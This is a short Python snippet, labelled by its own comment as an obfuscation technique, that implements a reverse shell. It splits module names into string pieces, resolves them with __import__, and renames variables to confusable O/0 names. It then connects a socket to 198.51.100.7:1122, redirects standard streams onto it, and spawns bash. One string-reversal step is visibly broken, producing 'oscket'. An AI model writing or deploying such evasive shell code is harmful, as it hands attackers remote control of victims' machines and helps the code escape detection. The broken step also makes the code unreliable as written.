# technique: obfuscated reverse shell with renamed identifiers and string-split module names resolved via __import__
O0O0O = __import__("so"[::-1] + "cket")
O0OO0 = __import__("o" + "s")
OO0O0 = __import__("".join(["p", "t", "y"]))
O00OO = O0O0O.socket(O0O0O.AF_INET, O0O0O.SOCK_STREAM)
O00OO.connect(("198." + "51.100." + "7", int("11" + "22")))
for O0000 in range(3):
    getattr(O0OO0, "dup" + "2")(O00OO.fileno(), O0000)
getattr(OO0O0, "sp" + "awn")("/bin/" + "bash")
